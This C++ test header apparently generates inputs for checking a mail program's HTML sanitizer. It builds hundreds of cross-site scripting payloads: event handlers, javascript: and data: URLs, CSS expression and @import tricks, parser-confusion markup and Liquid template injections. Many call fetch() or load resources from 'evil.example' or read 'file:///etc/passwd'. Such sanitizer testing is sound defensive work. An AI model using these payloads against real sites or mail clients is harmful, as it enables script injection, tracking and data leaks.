// What has been tried to make a mail program run, fetch or read something: written anew from what is known of browsers.
#pragma once

#include <string>
#include <utility>
#include <vector>

namespace audience::test {

// `remote`: the place that must not be asked, without a "/" at its end; `file`: the address of the file that must not be read.
inline std::vector<std::string> attackVectors(const std::string &remote = "https://evil.example", const std::string &file = "file:///etc/passwd") {
    std::vector<std::string> out;
    const std::vector<std::string> handlers{
        "onclick", "onload",           "onerror",  "onmouseover",          "onfocus",
        "onblur",  "onanimationstart", "ontoggle", "onpointerenter",       "onscroll",
        "onwheel", "onbegin",          "OnErRoR",  "on\xc5\xbf\x75\x62mit"};
    const std::vector<std::string> tags{"p",       "a",     "img", "body", "table",
                                        "td",      "div",   "svg", "math", "details",
                                        "marquee", "video", "x-y", "style"};
    const std::vector<std::string> forms{" %=alert(1)",
                                         " %='alert(1)'",
                                         "/%=\"alert(1)\"",
                                         " a=b%=x %=alert(1)",
                                         "\n%\n=\nalert(1)",
                                         " %=&#97;lert(1)",
                                         " \"%=alert(1)",
                                         " '>%=alert(1)'%=alert(1)",
                                         " style='x:y' %=alert(1) src=x"};
    for (const auto &handler : handlers)
        for (const auto &tag : tags)
            for (auto form : forms) {
                for (std::size_t at = form.find('%'); at != std::string::npos;
                     at = form.find('%', at + handler.size()))
                    form.replace(at, 1, handler);
                out.push_back('<' + tag + form + ">x");
            }
    const std::vector<std::string> urls{"javascript:alert(1)",
                                        "JaVaScRiPt:alert(1)",
                                        " javascript:alert(1)",
                                        "java\nscript:alert(1)",
                                        "java\tscript:alert(1)",
                                        "java&#10;script:alert(1)",
                                        "&#x6A;avascript:alert(1)",
                                        "&#106&#97vascript:alert(1)",
                                        "javascript&colon;alert(1)",
                                        "\x01javascript:alert(1)",
                                        "&#1;javascript:alert(1)",
                                        "vbscript:msgbox(1)",
                                        "data:text/html,<script>alert(1)</script>",
                                        "data:text/html;base64,PHNjcmlwdD4=",
                                        "data:image/svg+xml;base64,PHN2Zz4=",
                                        "data:image/svg+xml,<svg onload=alert(1)>",
                                        "data:image/png;base64,AAAA\"onerror=alert(1)",
                                        "data:image/png,x",
                                        "file:///etc/passwd",
                                        "\\\\server\\share",
                                        "//evil.example/x",
                                        "/etc/passwd",
                                        "x.png",
                                        "about:blank",
                                        "blob:x",
                                        "filesystem:x",
                                        "view-source:x",
                                        "jar:x",
                                        "mhtml:x",
                                        "livescript:x",
                                        "mocha:x",
                                        "feed:javascript:alert(1)",
                                        "ms-its:x",
                                        "res://x",
                                        "chrome://x",
                                        "qrc:/x",
                                        "ws://evil.example",
                                        "ftp://evil.example/x",
                                        "javascript&NewLine;:alert(1)",
                                        "&Tab;javascript:alert(1)",
                                        "%6aavascript:alert(1)",
                                        "https:evil",
                                        "HTTP:/evil"};
    const std::vector<std::string> holders{
        "<a href=\"%\">x</a>",
        "<img src=\"%\">",
        "<area href=\"%\">",
        "<td background=\"%\">x",
        "<body background=\"%\">",
        "<iframe src=\"%\"></iframe>",
        "<object data=\"%\">",
        "<embed src=\"%\">",
        "<form action=\"%\"><button formaction=\"%\">x",
        "<link rel=stylesheet href=\"%\">",
        "<base href=\"%\">",
        "<meta http-equiv=refresh content=\"0;url=%\">",
        "<svg><a xlink:href=\"%\"><text>x</text></a><image href=\"%\"/></svg>",
        "<math><a href=\"%\">x",
        "<img srcset=\"% 1x\">",
        "<video poster=\"%\"><source src=\"%\">",
        "<p style=\"background:url(%)\">x",
        "<style>p{background:url('%')}</style>",
        "<style>@import url(%);</style>",
        "<style>@import '%';p{color:red}</style>",
        "<input type=image src=\"%\">",
        "<picture><source srcset=\"%\"></picture>",
        "<a ping=\"%\" href=#x>x",
        "<blockquote cite=\"%\">x",
        "<table background='%'><tr><td>x"};
    for (const auto &url : urls)
        for (auto holder : holders) {
            for (std::size_t at = holder.find('%'); at != std::string::npos;
                 at = holder.find('%', at + url.size()))
                holder.replace(at, 1, url);
            out.push_back(holder);
        }
    const std::vector<std::string> declarations{
        "width:expression(alert(1))",
        "width:exp/**/ression(alert(1))",
        "width:\\65xpression(alert(1))",
        "width:e\\78 pression(alert(1))",
        "WIDTH:EXPRESSION(alert(1))",
        "behavior:url(x.htc)",
        "be\\68 avior:url(https://evil.example/x)",
        "-moz-binding:url(https://evil.example/x#y)",
        "-moz-b\\69nding:url(x)",
        "background:url(javascript:alert(1))",
        "background:u\\72l(https://evil.example/x)",
        "background:URL( 'https://evil.example/x' )",
        "background:url(//evil.example/x)",
        "background:url(\"https://evil.example/\\\"x\")",
        "list-style:url(file:///x)",
        "cursor:url(https://evil.example/x),auto",
        "content:url(https://evil.example/x)",
        "background:image-set('https://evil.example/x' 1x)",
        "background:-webkit-image-set(url(https://evil.example/x) 1x)",
        "background:image('https://evil.example/x')",
        "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')",
        "src:url(https://evil.example/x)",
        "background:cross-fade(url(https://evil.example/x),red)",
        "color:red;}@import 'https://evil.example/x';p{",
        "color:red}</style><script>alert(1)</script>",
        "content:'</style><img src=x onerror=alert(1)>'",
        "content:'\\3c/style\\3e\\3cscript\\3e'",
        "--x:url(https://evil.example/x);background:var(--x)",
        "color:'\n;background:url(https://evil.example/x)",
        "color:\"unclosed;background:url(https://evil.example/x)",
        "/*color:red",
        "color:red;/*/background:url(https://evil.example/x)/**/",
        "font-family:'a\\",
        "background:url(https://evil.example/x",
        "x:y{background:url(https://evil.example/x)}",
        "width:calc(1px + expression(alert(1)))",
        "color:(((((",
        "color:)]}",
        "color:1\\3c ",
        "c\\olor:red;width:1\\70x",
        "background:url(data:text/html,x)",
        "background:url( https://evil.example/a b )",
        "mask:element(#x)",
        "width:attr(x)",
        "background:paint(x)",
        "background:url/**/(//evil/x)",
        "width:expression/**/(x)",
        "background:image-set/**/('//evil/x')",
        "background:red//**/*color:red",
        "*zoom:1",
        "_height:1px"};
    const std::vector<std::string> places{"<p style=\"%\">x",
                                          "<p style='%'>x",
                                          "<style>p{%}</style>x",
                                          "<style>@media screen{p{%}}</style>x",
                                          "<style><!-- p{%} --></style>x",
                                          "<style>@font-face{%}</style>x",
                                          "<style>@supports (color:red){p{%}}</style>x",
                                          "<style>p{color:blue}\n%\n</style>x",
                                          "<svg><style>p{%}</style></svg>x",
                                          "<table><style>td{%}</style><tr><td style='%'>x"};
    for (const auto &declaration : declarations)
        for (auto place : places) {
            for (std::size_t at = place.find('%'); at != std::string::npos;
                 at = place.find('%', at + declaration.size()))
                place.replace(at, 1, declaration);
            out.push_back(place);
        }
    // Trees that read differently the second time, and what parsers disagree about.
    for (const char *text :
         {"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
          "onerror=alert(1)&gt;\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
          "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
          "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
          "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
          "<plaintext><img src=x onerror=alert(1)>",
          "<!--><img src=x onerror=alert(1)>-->",
          "<!--[if mso]><script>alert(1)</script><![endif]-->",
          "<![CDATA[<img src=x onerror=alert(1)>]]>",
          "<?xml version='1.0'?><?php echo?>x",
          "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
          "<template><img src=x onerror=alert(1)></template>",
          "<p><table><p><a><table><a>x",
          "<a href=https://a.org><a href=https://b.org>x</a></a>",
          "<b><p><i></b>x</i></p>",
          "<table><b><tr><td>x</b></table>",
          "<table>x<tr>y<td>z",
          "<pre>\n\nx</pre>",
          "<pre>&#10;&#10;x</pre>",
          "x&#13;&#10;y&#0;z&#x1F600;&#xD800;",
          "<p title='&#13;&#10;`\"<>'>x",
          "<scr<script>ipt>alert(1)</script>",
          "<<script>alert(1)//<</script>",
          "<script/x>alert(1)</script>",
          "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
          "<img \"\"\"><script>alert(1)</script>\">",
          "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
          "<image src=x onerror=alert(1)>",
          "<isindex type=image src=1 onerror=alert(1)>",
          "<nobr><nobr>x",
          "<dialog open>x",
          "<button><p><button><div>x",
          "<p><center><p>x</center>",
          "<h1><h2>x",
          "<dd><dt><li>x",
          "<ruby><rt>x",
          "<o:p>x</o:p>",
          "<v:rect fill='x'><v:textbox>x</v:textbox></v:rect>",
          "<div\x0conclick=alert(1)>x",
          "<a href=\"https://a.org\" href=\"javascript:alert(1)\">x",
          "<a\0href=javascript:alert(1)>x",
          "</p></br></body></html><p>x",
          "<html onload=alert(1)><html lang=en onclick=x>",
          "<body onload=alert(1)><body onclick=x>",
          "<head><p>x</head><style>p{color:red}</style>",
          "<!DOCTYPE html><p><table><tr><td>x",
          "<!DOCTYPE x SYSTEM 'about:legacy-compat' [<!ENTITY x 'y'>]>x"})
        out.emplace_back(text);
    const auto replace = [&](const std::string &what, const std::string &by) {
        for (std::string &one : out)
            for (std::size_t at = one.find(what); at != std::string::npos; at = one.find(what, at + by.size()))
                one.replace(at, what.size(), by);
    };
    if (file != "file:///etc/passwd")
        replace("file:///etc/passwd", file);
    if (remote != "https://evil.example") {
        replace("https://evil.example", remote);
        replace("//evil.example", remote.substr(remote.find("//")));
    }
    return out;
}

// Those that want to be fetched or run without being touched, as Chromium, Outlook and others offer them.
inline std::vector<std::string> loadingVectors(const std::string &remote, const std::string &file) {
    std::vector<std::string> out;
    const char *const forms[] = {
        "<img src='%'>", "<img srcset='% 1x, % 2x'>", "<img sizes='1px' srcset='% 100w' src='x'>", "<picture><source srcset='%'><img></picture>", "<input type=image src='%'>",
        "<video poster='%'></video>", "<video autoplay src='%'></video>", "<audio autoplay src='%'></audio>", "<video><source src='%'></video>",
        "<video><track default src='%'></video>", "<iframe src='%'></iframe>", "<iframe srcdoc='<img src=%>'></iframe>", "<frameset><frame src='%'></frameset>",
        "<object data='%'></object>", "<object type='text/html' data='%'></object>", "<embed src='%'>", "<applet archive='%' code=x></applet>", "<bgsound src='%'>",
        "<script src='%'></script>", "<script type=module src='%'></script>", "<script>fetch('%')</script>", "<script>new Image().src='%'</script>",
        "<script>navigator.sendBeacon('%')</script>", "<script>location='%'</script>", "<svg onload=\"fetch('%')\"></svg>", "<svg><image href='%'/></svg>",
        "<svg><image xlink:href='%'/></svg>", "<svg><use href='%#a'/></svg>", "<svg><script href='%'/></svg>", "<svg><feImage href='%'/></svg>",
        "<svg><style>@import '%';</style></svg>", "<svg><foreignObject><img src='%'></foreignObject></svg>", "<svg><set attributeName=href to='%'/></svg>",
        "<svg><a><animate attributeName=href values='%'/><text>x</text></a></svg>", "<math><mi href='%'>x</mi></math>", "<math><maction xlink:href='%'>x</maction></math>",
        "<math><annotation-xml encoding='text/html'><img src='%'></annotation-xml></math>", "<link rel=stylesheet href='%'>", "<link rel=preload as=image href='%'>",
        "<link rel=prefetch href='%'>", "<link rel=prerender href='%'>", "<link rel=preconnect href='%'>", "<link rel=dns-prefetch href='%'>", "<link rel=icon href='%'>",
        "<link rel=modulepreload href='%'>", "<link rel=manifest href='%'>", "<link rel=import href='%'>", "<link rel='alternate stylesheet' href='%'>",
        "<meta http-equiv=refresh content='0;url=%'>", "<meta http-equiv='refresh' content='0; %'>", "<meta http-equiv=Link content='<%>; rel=stylesheet'>",
        "<base href='%/'><img src='x.png'>", "<base href='%/'><link rel=stylesheet href=x.css>", "<body background='%'>", "<table background='%'><tr><td background='%'>x",
        "<html manifest='%'>", "<a href='%' ping='%' autofocus>x</a>", "<form action='%'><input autofocus></form><script>document.forms[0].submit()</script>",
        "<button formaction='%' autofocus>x</button>", "<style>@import '%';</style>", "<style>@import url(%);</style>", "<style>@import url('%') screen;</style>",
        "<style>@font-face{font-family:x;src:url('%')}p{font-family:x}</style><p>x", "<style>body{background:url('%')}</style>", "<style>body{background:url(%)}</style>",
        "<style>body{background-image:image-set('%' 1x)}</style>", "<style>body{background:-webkit-image-set(url('%') 1x)}</style>",
        "<style>body{background:-webkit-cross-fade(url('%'),url('%'),0.5)}</style>", "<style>p::before{content:url('%')}</style><p>x", "<style>ul{list-style:url('%')}</style><ul><li>x",
        "<style>p{cursor:url('%'),auto}</style><p>x", "<style>p{border-image:url('%') 1}</style><p>x", "<style>p{mask:url('%');-webkit-mask:url('%')}</style><p>x",
        "<style>p{filter:url('%#x')}</style><p>x", "<style>p{clip-path:url('%#x')}</style><p>x", "<style>p{shape-outside:url('%');float:left}</style><p>x",
        "<style>:root{--a:url('%')}p{background:var(--a)}</style><p>x", "<style>@media screen{p{background:url('%')}}</style><p>x",
        "<style>@supports(color:red){p{background:url('%')}}</style><p>x", "<style>@keyframes a{to{background:url('%')}}p{animation:a 1s}</style><p>x",
        "<style>@namespace url('%');</style>", "<style>@\\69mport '%';</style>", "<style>p{b\\61 ckground:u\\72l('%')}</style><p>x", "<style><!-- @import '%'; --></style>",
        "<p style=\"background:url('%')\">x", "<p style='background:url(%)'>x", "<p style=\"background:u&#114;l('%')\">x", "<p style=\"background:url&lpar;'%')\">x",
        "<p style=\"behavior:url('%')\">x", "<p style=\"-moz-binding:url('%')\">x", "<p style=\"width:expression(new Image().src='%')\">x",
        "<!--[if mso]><img src='%'><![endif]-->", "<!--[if !mso]><!--><img src='%'><!--<![endif]-->", "<v:fill src='%' type='frame'/>", "<v:image src='%'/>",
        "<xml><o:OfficeDocumentSettings><img src='%'></o:OfficeDocumentSettings></xml>", "<noscript><img src='%'></noscript>", "<template><img src='%'></template>",
        "<portal src='%'></portal>", "<image src='%'>", "<marquee background='%'>x</marquee>", "<isindex type=image src='%'>", "<details open ontoggle=\"fetch('%')\">x</details>",
        "<img src=x onerror=\"new Image().src='%'\">", "<body onload=\"location='%'\">", "<input autofocus onfocus=\"fetch('%')\">",
        "<p style='animation:a 1s' onanimationstart=\"fetch('%')\">x</p><style>@keyframes a{}</style>", "<IMG SRC='%'>", "<img\nsrc\n=\n'%'\n>", "<img/src='%'/>",
        "<img src=%>", "<img src=`%`>", "<img lowsrc='%' dynsrc='%' longdesc='%'>", "</style><img src='%'>", "</title><img src='%'>", "</textarea><img src='%'>",
        "<title><img src='%'></title>", "<xmp><img src='%'></xmp>", "<plaintext><img src='%'>", "<a href='javascript:fetch(%)' autofocus>x</a>",
        "<iframe src=\"javascript:fetch('%')\"></iframe>", "<iframe src=\"data:text/html,<img src='%'>\"></iframe>", "<object data=\"data:text/html,<img src='%'>\"></object>",
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='%'/></svg>\">",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='%'/></svg>\">"};
    for (const std::string &address : {remote + "/x", remote.substr(remote.find("//")) + "/x", file})
        for (const char *form : forms) {
            std::string one(form);
            for (std::size_t at = one.find('%'); at != std::string::npos; at = one.find('%', at + address.size()))
                one.replace(at, 1, address);
            out.push_back(std::move(one));
        }
    return out;
}

// The same built by Liquid while it is rendered; `{{ x }}` gives what `value` is.
inline std::vector<std::pair<std::string, std::string>> liquidVectors(const std::string &remote) { // template, value
    const std::string url = remote + "/liquid";
    return {{"<{{ 'scr' | append: 'ipt' }}>fetch('" + url + "')</{{ 'script' }}>", ""},
            {"<img {{ 'on' }}error=\"fetch('" + url + "')\" src=x>", ""},
            {"<a href=\"{{ 'java' | append: 'script:' }}fetch('" + url + "')\">x</a>", ""},
            {"{% assign tag = 'iframe' %}<{{ tag }} src='" + url + "'></{{ tag }}>", ""},
            {"{% capture rule %}@import '" + url + "';{% endcapture %}<style>{{ rule }}</style>", ""},
            {"{% for part in 'img' %}<{{ part }} src='" + url + "'>{% endfor %}", ""},
            {"<img src='{{ x }}'>", url},
            {"<img src={{ x }}>", url + " onerror=fetch('" + url + "')"},
            {"<p style=\"color:{{ x }}\">x", "red;background:url('" + url + "')"},
            {"<p style='{{ x }}'>x", "background:url(" + url + ")"},
            {"<style>p{color:{{ x }}}</style>", "red}</style><img src='" + url + "'>"},
            {"<a href=\"{{ x }}\">x</a>", "javascript:fetch('" + url + "')"},
            {"<p title=\"{{ x }}\">x", "\"><script>fetch('" + url + "')</script>"},
            {"<p>{{ x }}</p>", "<script>fetch('" + url + "')</script><img src='" + url + "'>"},
            {"<p>{{ x | raw }}</p>", "<script>fetch('" + url + "')</script><img src='" + url + "'>"},
            {"{{ x | append: '' }}", "<svg onload=\"fetch('" + url + "')\">"},
            {"<!-- {{ x }} -->", "--><img src='" + url + "'>"},
            {"<title>{{ x }}</title>", "</title><link rel=stylesheet href='" + url + "'>"},
            {"<{{ x }}>", "img src='" + url + "'"},
            {"<div {{ x }}>x</div>", "onclick=fetch('" + url + "') style=\"background:url('" + url + "')\""},
            {"<meta {{ x }}>", "http-equiv=refresh content='0;url=" + url + "'"},
            {"<base href='{{ x }}/'><img src=a.png>", url}};
}

} // namespace audience::test
